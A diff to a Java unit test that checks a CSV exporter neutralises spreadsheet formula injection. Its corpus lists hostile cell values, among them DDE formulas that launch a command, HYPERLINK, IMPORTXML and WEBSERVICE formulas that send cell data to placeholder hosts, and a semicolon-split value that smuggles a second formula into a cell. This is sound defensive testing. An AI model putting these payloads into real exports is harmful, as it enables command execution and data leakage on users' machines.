@@ -1,10 +1,12 @@
 package dev.errata.report;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
 
 import java.io.IOException;
 import java.io.StringReader;
 import java.io.StringWriter;
+import java.time.Duration;
 import java.util.List;
 import java.util.regex.Pattern;
 import org.apache.commons.csv.CSVFormat;
@@ -35,9 +37,12 @@ class InjectionCorpusTest {
     static final List<String> FORMULAS = List.of(
             "=1+2", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://example.invalid?x=\"&A1,\"click\")", "+1+2", "+SUM(A1:A9)",
             "-2+3", "-SUM(A1)", "@SUM(A1:A9)", "\t=1+2", "\r=1+2", "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")",
-            "=WEBSERVICE(\"http://example.invalid\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "@cmd", "-", "+", "=");
+            "=WEBSERVICE(\"http://example.invalid\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "@cmd", "-", "+", "=",
+            // A spreadsheet in a locale that separates with semicolons splits this cell and runs the second part.
+            "x;=cmd|' /C calc'!A0", "x,=1+1", "\uFF1D1+1", "\uFF0B1+1", "\uFF0D1+1", "\uFF201+1", "\uFEFF=1+1", " =1+1", "\u00A0=1+1",
+            "\n=1+1", "  +1+2");
 
-    private static final Pattern ENTITY = Pattern.compile("&(amp|lt|gt|quot|#39);");
+    private static final Pattern ENTITY = Pattern.compile("&(amp|lt|gt|quot|#39|#32|#9);");
 
     @Test
     void escapedHtmlHoldsNoMarkupCharacterAndReadsBackAsTheValue() {
@@ -77,6 +82,24 @@ class InjectionCorpusTest {
         }
         assertThat(ExportCsv.text("-0.5")).as("a negative number stays a number").isEqualTo("-0.5");
         assertThat(ExportCsv.text("+1e3")).isEqualTo("+1e3");
+        assertThat(ExportCsv.text("0.25;0.75")).as("text with a semicolon that starts no formula").isEqualTo("0.25;0.75");
+    }
+
+    @Test
+    void aCellHoldingASemicolonIsQuotedSoASemicolonLocaleKeepsItOneCell() throws IOException {
+        StringWriter out = new StringWriter();
+        try (ExportCsv csv = new ExportCsv(out, List.of("a", "b"))) {
+            csv.row(List.of(ExportCsv.text("x;=cmd|' /C calc'!A0"), ExportCsv.number(2)));
+        }
+        assertThat(out.toString()).isEqualTo("a,b\n\"'x;=cmd|' /C calc'!A0\",2\n");
+    }
+
+    @Test
+    void checksWhetherACellIsANumberInTimeLinearInItsLength() {
+        String cell = "-" + "1".repeat(160_000) + "x";
+        assertTimeoutPreemptively(Duration.ofSeconds(2), () -> assertThat(ExportCsv.text(cell)).isEqualTo("'" + cell));
+        String number = "-" + "1".repeat(160_000) + ".5e3";
+        assertTimeoutPreemptively(Duration.ofSeconds(2), () -> assertThat(ExportCsv.text(number)).isEqualTo(number));
     }
 
     @Test
